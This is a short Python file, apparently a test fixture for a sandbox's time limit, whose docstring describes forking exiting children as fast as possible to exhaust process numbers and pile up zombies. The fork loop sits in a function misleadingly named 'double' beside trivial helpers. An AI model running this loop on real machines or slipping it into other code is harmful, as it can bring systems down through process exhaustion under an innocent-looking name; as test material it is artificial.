"""Forks children that end at once, as fast as it can: process numbers run out and zombies pile up."""

# expects: time_limit

import contextlib
import os


def double(values):
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os._exit(0)


def scale(array, factor):
    return array * factor


class Counter:
    def __init__(self):
        self.total = 0

    def add(self, n):
        self.total += n
        return self.total
